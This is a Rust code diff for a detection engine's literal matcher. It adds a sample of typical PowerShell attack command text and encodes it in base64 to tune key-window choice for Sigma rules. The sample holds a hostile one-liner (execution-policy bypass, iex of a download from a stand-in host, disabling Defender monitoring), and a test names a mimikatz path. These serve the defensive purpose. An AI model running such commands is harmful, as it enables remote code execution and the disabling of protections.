@@ -97,6 +97,88 @@ static COMMON_WINDOWS: [u64; 64] = {
     set
 };
 
+/// Text attack command lines carry base64-encoded as UTF-16 (`-EncodedCommand`): PowerShell and
+/// English. Sigma rules list such base64 at each of its three alignments (`base64offset`), and
+/// their windows that encode common characters (`ZQB`, `AGU`: an `e`) fill every encoded blob,
+/// so those windows are keys of last resort for a literal (see [`BASE64_WINDOWS`]).
+const BASE64_TEXT: &[u8] = b"powershell -nop -w hidden -noprofile -executionpolicy bypass -enc iex (new-object net.webclient).downloadstring('http://example.com/a.ps1'); invoke-expression start-process -filepath $env:temp\\update.exe -argumentlist /c whoami; set-mppreference -disablerealtimemonitoring $true; [system.convert]::frombase64string(get-content) the of and to in is that for with on as it this are from write-host out-file";
+
+/// The base64 alphabet's character for the 6-bit value `v`.
+// Each arm's sum stays within its range of the alphabet.
+#[allow(clippy::arithmetic_side_effects)]
+const fn base64_char(v: u8) -> u8 {
+    match v {
+        0..=25 => b'A' + v,
+        26..=51 => b'a' + (v - 26),
+        52..=61 => b'0' + (v - 52),
+        62 => b'+',
+        _ => b'/',
+    }
+}
+
+/// Bits of a 16384-bit set of the (folded) 3-byte windows of [`BASE64_TEXT`] as UTF-16LE,
+/// base64-encoded at each of its three alignments, by [`base64_window_bit`].
+static BASE64_WINDOWS: [u64; 256] = {
+    let mut set = [0u64; 256];
+    // Byte `j` of the text as UTF-16LE: a character, then 0.
+    let utf16_len = BASE64_TEXT.len() * 2;
+    let mut align = 0;
+    while align < 3 {
+        let mut window = 0u64;
+        let mut chars = 0;
+        let mut j = align;
+        // Each group of three bytes encodes as four characters.
+        while j + 3 <= utf16_len {
+            // In range: `j + k < utf16_len`, so `(j + k) / 2 < BASE64_TEXT.len()`; the bit index
+            // is below 16384.
+            #[allow(clippy::indexing_slicing, clippy::arithmetic_side_effects)]
+            {
+                let mut group = 0u32;
+                let mut k = 0;
+                while k < 3 {
+                    let byte = if (j + k) % 2 == 0 {
+                        BASE64_TEXT[(j + k) / 2]
+                    } else {
+                        0
+                    };
+                    group = (group << 8) | byte as u32;
+                    k += 1;
+                }
+                let mut c = 0;
+                while c < 4 {
+                    let v = ((group >> (18 - 6 * c)) & 0x3F) as u8;
+                    window =
+                        ((window << 8) | base64_char(v).to_ascii_lowercase() as u64) & 0xFF_FFFF;
+                    chars += 1;
+                    if chars >= 3 {
+                        let bit = base64_window_bit(window);
+                        set[bit / 64] |= 1u64 << (bit % 64);
+                    }
+                    c += 1;
+                }
+                j += 3;
+            }
+        }
+        align += 1;
+    }
+    set
+};
+
+/// Where a 3-byte window (folded bytes, big-endian) falls in [`BASE64_WINDOWS`].
+const fn base64_window_bit(window: u64) -> usize {
+    (window.wrapping_mul(0x9E37_79B9_7F4A_7C15) >> 50) as usize
+}
+
+/// Whether the (folded) 3-byte window is common in base64 of UTF-16 text (or shares its bit with
+/// one that is).
+fn base64_window(window: u64) -> bool {
+    has_bit(&BASE64_WINDOWS, base64_window_bit(window))
+}
+
+/// Added to a window's score when it is a window of [`BASE64_TEXT`] encoded: more than any byte
+/// commonness can sum to, less than [`COMMON_WINDOW_PENALTY`].
+const BASE64_WINDOW_PENALTY: u32 = 1 << 12;
+
 /// Where a 3-byte window (folded bytes, big-endian) falls in [`COMMON_WINDOWS`].
 const fn common_window_bit(window: u64) -> usize {
     (window.wrapping_mul(0x9E37_79B9_7F4A_7C15) >> 52) as usize
@@ -198,7 +280,8 @@ pub(crate) fn commonness(b: u8) -> u32 {
 
 /// Where literal `lit` is best keyed: the end of its key window, the whole literal when it is at
 /// most [`GRAM`] bytes long, else its least common window of [`GRAM`] bytes, the first of equals
-/// (windows of [`COMMON_TEXT`] last, then by the commonness of their bytes). The compiler records
+/// (windows of [`COMMON_TEXT`] last, then windows of encoded [`BASE64_TEXT`], then by the
+/// commonness of their bytes). The compiler records
 /// it in the pack for every string (`key_window_start`); loading only checks it.
 fn key_window_end(lit: &[u8]) -> usize {
     key_window_end_balanced(lit, |_| 0)
@@ -223,6 +306,8 @@ pub(crate) fn key_window_end_balanced(lit: &[u8], load: impl Fn(u64) -> u32) -> 
         if end >= GRAM && score < best.1 {
             let penalty = if common_window(window) {
                 COMMON_WINDOW_PENALTY
+            } else if base64_window(window) {
+                BASE64_WINDOW_PENALTY
             } else {
                 0
             };
@@ -1644,6 +1729,32 @@ mod tests {
                 assert_eq!(folded, expected, "byte {b:#04x} at {at}");
             }
         }
+    }
+
+    #[test]
+    fn base64_windows_are_those_of_encoded_text() {
+        // `powershell` as UTF-16LE, base64 (at the first alignment): each window is in the set.
+        for w in b"cABvAHcAZQByAHMAaABlAGwAbAA".windows(GRAM) {
+            let window = key_of(w) & 0xFF_FFFF;
+            assert!(base64_window(window), "{:?}", String::from_utf8_lossy(w));
+        }
+        // And few others: the set is sparse, so it rarely decides a path's key.
+        let set: u32 = BASE64_WINDOWS.iter().map(|w| w.count_ones()).sum();
+        assert!(set < 16384 / 10, "{set} of 16384 bits set");
+        let path = b"\\windows\\temp\\mimikatz.exe";
+        let marked = path
+            .windows(GRAM)
+            .filter(|w| base64_window(key_of(w) & 0xFF_FFFF))
+            .count();
+        assert!(marked <= 2, "{marked} windows of a path marked");
+        // A base64 literal is keyed by a window that encodes an uncommon character, not an `e`.
+        let lit = b"uAGUAVAAuAFcAZQBCA";
+        let end = key_window_end(lit);
+        assert!(
+            !base64_window(window_at(lit, end)),
+            "keyed at {:?}",
+            &lit[end - GRAM..end]
+        );
     }
 
     #[test]
